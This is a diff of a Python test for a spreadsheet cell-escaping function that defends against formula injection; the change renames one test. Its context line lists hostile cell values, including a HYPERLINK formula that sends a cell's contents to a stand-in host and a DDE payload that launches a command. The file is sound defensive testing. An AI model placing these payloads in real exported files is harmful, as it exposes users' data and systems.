@@ -25,7 +25,7 @@ HOSTILE = ['=HYPERLINK("http://x.example/?a="&A1;"Klick")', "=cmd|' /C calc'!A0"
            "\t=1+1", "\r=1+1"]
 
 
-def test_cell_literals():
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted_and_numbers_stay():
     assert cell("=1+1") == "'=1+1"
     assert cell("@x") == "'@x"
     assert cell("-2+3") == "'-2+3"
